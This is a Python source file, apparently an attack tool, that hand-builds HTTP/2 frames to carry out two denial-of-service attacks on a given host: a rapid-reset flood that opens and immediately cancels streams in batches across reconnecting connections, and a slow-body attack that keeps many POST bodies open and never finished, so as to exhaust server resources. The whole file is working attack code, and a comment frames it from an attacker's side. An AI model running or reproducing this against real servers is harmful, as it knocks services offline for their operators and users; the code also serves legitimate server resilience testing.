"""As much of HTTP/2 as it takes to leave request bodies unfinished."""

import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, GO_AWAY, WINDOW = 0, 1, 3, 4, 7, 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(text):
    return bytes([len(text)]) + text.encode()


def post(stream, authority, path):
    """HEADERS of a POST whose body follows: fields of the static table, and literals."""
    block = b"\x83\x86" + b"\x04" + literal(path) + b"\x01" + literal(authority)
    return frame(HEADERS, 0x4, stream, block)


class Connection:
    """Sends as much of each body as the windows allow, and never the end of one."""

    def __init__(self, host, port, path, streams):
        self.socket = socket.create_connection((host, port), timeout=5)
        self.socket.settimeout(0.05)
        self.authority, self.path = f"{host}:{port}", path
        self.window, self.initial, self.buffer = 65535, 65535, b""
        self.next, self.open, self.wanted, self.sent = 1, {}, streams, 0
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def step(self):
        """Some more of each body. `False` once the connection has ended."""
        try:
            while len(self.open) < self.wanted and self.next < 4_000:
                self.socket.sendall(post(self.next, self.authority, self.path))
                self.open[self.next] = self.initial
                self.next += 2
            for stream in list(self.open):
                size = min(self.open[stream], self.window, 16_384)
                if size > 0:
                    self.socket.sendall(frame(DATA, 0, stream, b" " * size))
                    self.open[stream] -= size
                    self.window -= size
                    self.sent += size
            self.receive()
            return True
        except OSError:
            return False

    def receive(self):
        try:
            more = self.socket.recv(1 << 16)
        except TimeoutError:
            return
        if not more:
            raise ConnectionError("closed")
        self.buffer += more
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload, self.buffer = self.buffer[9 : 9 + length], self.buffer[9 + length :]
            self.handle(kind, flags, stream, payload)

    def handle(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & 1:
            for at in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[at : at + 6])
                if name == 4:
                    self.open = {id: left + value - self.initial for id, left in self.open.items()}
                    self.initial = value
                elif name == 3:
                    # More would be refused; a good attacker sends as many as are taken.
                    self.wanted = min(self.wanted, value)
            self.socket.sendall(frame(SETTINGS, 1, 0))
        elif kind == WINDOW and stream == 0:
            self.window += int.from_bytes(payload, "big")
        elif kind == WINDOW and stream in self.open:
            self.open[stream] += int.from_bytes(payload, "big")
        elif kind in (HEADERS, RESET):
            # Answered or refused before its end: another one takes its place.
            self.open.pop(stream, None)
        elif kind == GO_AWAY:
            raise ConnectionError("go away")


def resets(host, port, path, seconds):
    """Requests that are reset at once, on one connection after the other. How many."""
    deadline, count = time.monotonic() + seconds, 0
    cancel = struct.pack(">I", 8)
    while time.monotonic() < deadline:
        try:
            connection = Connection(host, port, path, 0)
            while time.monotonic() < deadline and connection.next < 1 << 30:
                pairs = []
                for stream in range(connection.next, connection.next + 100, 2):
                    pairs.append(post(stream, connection.authority, path) + frame(RESET, 0, stream, cancel))
                connection.next += 100
                connection.socket.sendall(b"".join(pairs))
                count += len(pairs)
                connection.receive()
        except OSError:
            time.sleep(0.01)
    return count


def half_bodies(host, port, path, streams, seconds):
    """One connection after the other, each with so many unfinished bodies. The bytes sent."""
    deadline, sent, connections = time.monotonic() + seconds, 0, 0
    while time.monotonic() < deadline and connections < 50:
        try:
            connection = Connection(host, port, path, streams)
        except OSError:
            time.sleep(0.1)
            continue
        connections += 1
        while time.monotonic() < deadline and connection.step():
            pass
        sent += connection.sent
        connection.socket.close()
    return sent
